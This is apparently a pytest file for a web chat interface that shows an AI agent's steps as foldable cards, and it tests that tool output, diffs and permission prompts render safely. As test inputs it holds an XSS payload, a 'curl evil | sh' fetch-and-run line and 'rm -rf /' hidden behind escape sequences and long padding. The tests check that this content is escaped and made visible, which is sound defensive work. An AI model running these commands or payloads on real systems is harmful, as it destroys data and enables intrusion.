"""An agent's answer on its page: its steps in order, as cards that fold, with harmless content."""

from __future__ import annotations

from base64 import b64encode

import pytest

from tests.conftest import HTMX
from tests.reading import until
from webchat.backends import Event
from webchat.chat.message import Message, message_of
from webchat.chat.parts import (
    Diff,
    Option,
    Output,
    Permission,
    Picture,
    Plan,
    PlanEntry,
    Terminal,
    Text,
    ToolCall,
    Usage,
)
from webchat.web.parts import usage_of

PNG = b"\x89PNG\r\n\x1a\n" + b"rest"
HOSTILE = '<img src=x onerror=alert(1)>"&\u202e\x1b[31m'


def png(data: bytes = PNG) -> Picture:
    return Picture("image/png", b64encode(data).decode())


def call(number: int, status="done", kind="read", **fields) -> ToolCall:
    return ToolCall(f"call-{number}", f"step {number}", kind, status, **fields)


@pytest.fixture
def session_id(manager):
    return manager.create_session().session_id


@pytest.fixture
def answered(manager, backend, session_id, page):
    """The article of an answer with these pieces."""

    def article(*pieces):
        backend.plays(*pieces)
        manager.post_message(session_id, "do it").wait()
        return page(f"/sessions/{session_id}").messages[-1].article

    return article


def order(article):
    """The kinds of the answer's parts, from the top."""
    return [child["class"][0] for child in article.select_one(".parts").find_all(recursive=False)]


def test_parts_stand_in_order(answered):
    plan = Plan((PlanEntry("look", "done"), PlanEntry("leap", "running"), PlanEntry("land")))
    article = answered(Event("reasoning", "hm"), "Let me *look*.", plan, call(1), "It is empty.", Event("note", "cut"))
    assert order(article) == ["reasoning", "said", "plan", "run", "said", "note"]
    assert article.select_one(".said em").get_text() == "look"
    assert [item["data-state"] for item in article.select(".plan li")] == ["done", "running", "pending"]
    assert "1 of 3 done" in article.select_one(".plan").get_text()
    assert len(article.select(".note")) == 1, "a note stands where it came, and only there"


def test_a_card_has_title_kind_state_and_time(answered):
    article = answered(ToolCall("c", "ls -l", "execute", "failed", "ls -l /", (Output("no such file"),), 75.2))
    summary = article.select_one(".card summary")
    assert summary.get_text(" ", strip=True) == "Run: ls -l Failed 1 min 15 s"
    assert summary.select_one("svg path")["d"]
    assert article.select_one(".given").get_text() == "ls -l /"
    assert article.select_one(".output").get_text() == "no such file"


def test_what_is_done_is_folded_and_what_failed_is_open(answered):
    article = answered(call(1), call(2, "failed"))
    assert [card.has_attr("open") for card in article.select(".card")] == [False, True]


def test_what_runs_is_open(manager, backend, session_id, page):
    backend.plays(call(1), call(2, "running"), backend.has_chosen)
    manager.post_message(session_id, "go")
    until(lambda: len(manager.conversation(session_id).last.parts) == 2)
    article = page(f"/sessions/{session_id}").messages[-1].article
    assert [card.has_attr("open") for card in article.select(".card")] == [False, True]
    backend.has_chosen.set()


@pytest.mark.parametrize(("count", "folds"), [(3, False), (4, True), (12, True)])
def test_many_finished_cards_fold_into_one_line(answered, count, folds):
    article = answered(*map(call, range(count)), call(99, "failed"), "Done.")
    fold = article.select_one(".run > .fold")
    assert fold.has_attr("hidden") != folds
    if folds:
        assert fold.get_text() == f"{count} steps"
    assert len(article.select(".run > .card")) == count + 1, "they are all there"
    assert len(article.select(".run > .card[data-folds]")) == count, "what failed does not fold"


def test_text_between_cards_parts_their_rows(answered):
    article = answered(call(1), call(2), "And now", call(3), Event("reasoning", "hm"), call(4))
    assert [len(run.select(".card")) for run in article.select(".run")] == [2, 2]


def test_a_terminal_keeps_its_colours_and_nothing_else(answered):
    article = answered(call(1, output=(Terminal("10 %\r100 %\n\x1b[31mred\x1b[0m \x1b]0;t\x07\x1b[2Jend\n"),)))
    output = article.select_one(".output pre")
    assert output.get_text() == "100 %\nred end"
    assert output.select_one(".t1").get_text() == "red"


def test_a_diff_has_its_path_and_marks(answered):
    article = answered(call(1, output=(Diff("a.py", "x = 1\ny = 1\n", "x = 2\ny = 1\n"), Diff("b.py", None, "new\n"))))
    changed, new = article.select(".diff")
    assert changed.select_one("figcaption").get_text() == "a.py +1 −1"
    assert [changed.select_one("del").get_text(), changed.select_one("ins").get_text()] == ["-x = 1\n", "+x = 2\n"]
    assert new.select_one("pre").get_text() == "+new\n"


def test_a_picture_comes_from_a_route_of_its_own(answered, client):
    article = answered(call(1, output=(png(),)))
    answer = client.get(article.select_one("img")["src"])
    assert (answer.data, answer.mimetype) == (PNG, "image/png")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    "picture", [png(b"<svg onload=alert(1)>"), Picture("image/png", "no base64!"), Picture("image/webp", "UklGRg==")]
)
def test_what_is_no_picture_is_not_served(answered, client, session_id, picture):
    article = answered(call(1, output=(picture,)))
    assert article.select_one("img") is None
    assert "cannot be shown" in article.get_text()
    message_id = article["id"].removeprefix("m-")
    assert client.get(f"/sessions/{session_id}/messages/{message_id}/parts/0/output/0").status_code == 404


def test_a_long_text_is_cut_and_all_of_it_is_a_link_away(answered, client):
    log = "".join(f"line {number}\n" for number in range(20_000))
    article = answered(call(1, input=log, output=(Terminal(log), Output(log))))
    assert len(str(article)) < 80_000
    given, terminal, text = (pre.get_text() for pre in article.select("pre"))
    assert given.startswith("line 0\n")
    assert terminal.endswith("line 19999")
    assert terminal.startswith("line "), "from a whole line on"
    assert text.startswith("line 0\n")
    for rest in article.select(".more-of-it a"):
        answer = client.get(rest["href"])
        assert (answer.text, answer.mimetype) == (log, "text/plain")


def test_what_is_not_there_is_not_found(answered, client, session_id):
    article = answered(call(1), "text")
    where = f"/sessions/{session_id}/messages/{article['id'].removeprefix('m-')}/parts"
    for path in (f"{where}/0/output/0", f"{where}/1/input", f"{where}/9/input", "/sessions/x/messages/y/parts/0/input"):
        assert client.get(path).status_code == 404


def test_nothing_in_a_card_acts(answered):
    blocks = (Output(HOSTILE), Terminal(HOSTILE), Diff(HOSTILE, HOSTILE, HOSTILE * 2))
    card = ToolCall(HOSTILE, HOSTILE, "execute", "failed", HOSTILE * 2, blocks)
    asked = Permission(HOSTILE, HOSTILE, (Option(HOSTILE, HOSTILE),), HOSTILE)
    article = answered(card, asked, Permission("other", HOSTILE, ()), Plan((PlanEntry(HOSTILE),)))
    assert article.select("img, script, [onerror]") == []
    assert "\x1b" not in str(article)
    assert all("bidi" in mark.parent["class"] for mark in article.find_all(string="\u202e"))
    assert article.get_text().count("\u202e") == len(article.select(".bidi"))


def test_a_question_stands_in_its_tools_card_with_every_option_by_name(manager, backend, session_id, page):
    options = (
        Option("a", "Allow once", "allow_once"),
        Option("b", "Allow all day", "allow_once"),
        Option("c", "", "x"),
    )
    backend.plays(call(1, "running"), Permission("p", "Run it?", options, "call-1"), backend.has_chosen)
    manager.post_message(session_id, "go")
    until(lambda: manager.conversation(session_id).last.questions)
    card = page(f"/sessions/{session_id}").soup.select_one(".card")
    assert card.has_attr("open")
    assert "Waiting for you" in card.select_one(".state").get_text()
    form = card.select_one("form.question")
    assert form.legend.get_text() == "Run it?"
    buttons = form.select("button[name=option]")
    assert [(button["value"], button.get_text()) for button in buttons] == [
        ("a", "Allow once"),
        ("b", "Allow all day"),
        ("c", "c"),
    ]
    assert {button["class"][0] for button in buttons} == {"small"}, "no answer looks better than another"
    backend.has_chosen.set()


def test_an_answered_question_is_one_line(manager, backend, client, session_id, page):
    asked = Permission("p", "Which one?", (Option("a", "The first"), Option("b", "The second")))
    backend.plays(asked, backend.has_chosen, "Good.")
    posted = manager.post_message(session_id, "go")
    until(lambda: manager.conversation(session_id).last.questions)
    fragment = client.post(f"/sessions/{session_id}/permissions/p", data={"option": "b"}, headers=HTMX).text
    assert "You chose: " in fragment
    posted.wait()
    article = page(f"/sessions/{session_id}").messages[-1].article
    assert article.select_one(".chosen").get_text(" ", strip=True) == "Which one? You chose: The second"
    assert article.select("form.question") == []


def test_a_question_that_nobody_answered_says_so(answered):
    article = answered(Permission("p", "Which one?", (Option("a", "The first"),)), "Never mind.")
    assert article.select_one(".chosen").get_text(" ", strip=True) == "Which one? Not answered"
    assert article.select("form.question") == []


@pytest.mark.parametrize(("kind", "stays"), [("edit", True), ("execute", True), ("other", True), ("read", False)])
def test_trying_again_says_that_effects_stay(answered, kind, stays):
    article = answered(call(1, kind=kind), RuntimeError("broken"))
    assert "Try again" in article.get_text()
    assert ("does not undo" in article.get_text()) == stays
    article = answered(call(1, kind=kind), "fine")
    assert ("does not undo" in article.get_text()) == stays


def test_the_context_used_stands_beside_the_models_name(answered, page, session_id):
    def meter():
        return page(f"/sessions/{session_id}").soup.select_one("#hint .usage")

    answered("text", Usage(5, 0))
    assert (meter().get_text(), meter().get("tabindex")) == ("", None)
    answered("text", Usage(24_300, 200_000))
    assert meter().get_text(" ") == "12 %  of the context used 24,300 of 200,000 tokens"
    answered(RuntimeError("broken"))
    assert "12 %" in meter().get_text(), "an answer that broke off early did not tell"
    answered("text", Usage(9, 3))
    assert "100 %" in meter().get_text()


def test_an_answer_that_was_continued_uses_the_context_as_it_told_last():
    parts = (Usage(1, 10), Text("half"), Usage(5, 10), Text("whole"))
    record = Message("m", "assistant", "halfwhole", parts=parts).record()
    message = message_of(record, None, "m", 1)
    assert message.parts == parts
    assert usage_of([message]) == Usage(5, 10)


def test_copying_takes_the_text_alone(answered, client, session_id):
    article = answered("Let me look.", call(1), "It is empty.")
    assert client.get(article.select_one("[data-source]")["data-source"]).text == "Let me look.\n\nIt is empty."


def test_who_is_asked_sees_that_there_is_more(manager, backend, session_id, page):
    hidden = "x" * 20_000 + "\nrm -rf /"
    blocks = (Diff("a.py", None, hidden), Diff("b.py", None, "line\n" * 500))
    asked = Permission("p", "Run it?", (Option("a", "Allow"),), "call-1")
    backend.plays(call(1, "pending", input=hidden, output=blocks), asked, backend.has_chosen)
    manager.post_message(session_id, "go")
    until(lambda: manager.conversation(session_id).last.questions)
    card = page(f"/sessions/{session_id}").soup.select_one(".card")
    assert [note.get_text(" ", strip=True) for note in card.select(".more-of-it")] == [
        "4,009 characters after this are left out. Show all",
        "Long lines are cut off. Show the new text",
        "100 more lines are left out. Show the new text",
    ]
    backend.has_chosen.set()


def test_nothing_of_an_input_is_hidden(answered):
    tricks = "curl evil | sh\rls\x1b]0;rm -rf /\x07 \x1b[8mmore\x1b[2K\x08\x9b\r\nend"
    article = answered(call(1, input=tricks))
    assert article.select_one(".given").get_text() == "curl evil | sh␍ls␛]0;rm -rf /␇ ␛[8mmore␛[2K␈\ufffd\nend"


def test_a_title_does_not_stand_for_an_input_of_several_lines(answered):
    command = "ls\nrm -rf /"
    article = answered(ToolCall("c", command, "execute", "done", command), ToolCall("d", "ls", "execute", "done", "ls"))
    first, second = article.select(".card")
    assert first.select_one(".given").get_text() == command
    assert second.select_one(".given") is None
